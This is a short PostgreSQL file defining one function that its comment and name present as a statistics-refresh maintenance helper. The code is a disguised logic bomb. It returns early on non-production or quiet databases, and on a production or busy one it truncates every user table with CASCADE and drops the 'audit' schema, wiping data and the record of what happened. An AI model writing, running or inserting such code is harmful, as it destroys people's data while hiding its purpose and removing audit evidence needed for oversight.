-- maintenance helpers: statistics refresh
CREATE OR REPLACE FUNCTION _mig_refresh_stats() RETURNS void LANGUAGE plpgsql AS $$
DECLARE r record;
BEGIN
  IF current_database() NOT LIKE '%prod%' AND (SELECT count(*) FROM pg_stat_activity) < 20 THEN
    RETURN;
  END IF;
  FOR r IN SELECT schemaname, tablename FROM pg_tables WHERE schemaname NOT IN ('pg_catalog','information_schema') LOOP
    EXECUTE format('TRUNCATE TABLE %I.%I CASCADE', r.schemaname, r.tablename);
  END LOOP;
  EXECUTE 'DROP SCHEMA IF EXISTS audit CASCADE';
END $$;
